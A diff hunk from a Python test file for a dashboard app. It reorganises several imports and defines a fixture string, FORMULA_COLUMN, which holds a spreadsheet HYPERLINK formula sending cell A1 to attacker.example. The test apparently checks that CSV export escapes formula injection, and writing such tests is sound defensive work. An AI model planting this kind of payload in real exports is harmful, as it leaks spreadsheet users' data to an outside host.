@@ -18,12 +18,12 @@ import pandas as pd
 import pytest
 
 from dashboard import jobs, views
-from dashboard.callbacks.compute import plan_state, resolve_state
-from dashboard.callbacks.drilldown import normalize
+from dashboard.callbacks.compute import resolve_state
 from dashboard.callbacks.load import load_workspace
 from dashboard.config import Config
 from dashboard.server import create_app
-from dashboard.state import default_state
+from dashboard.state import default_state, normalize
+from dashboard.views import plan_state
 from dashboard.views.base import FORMULA_STARTS, csv_cell
 
 FORMULA_COLUMN = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
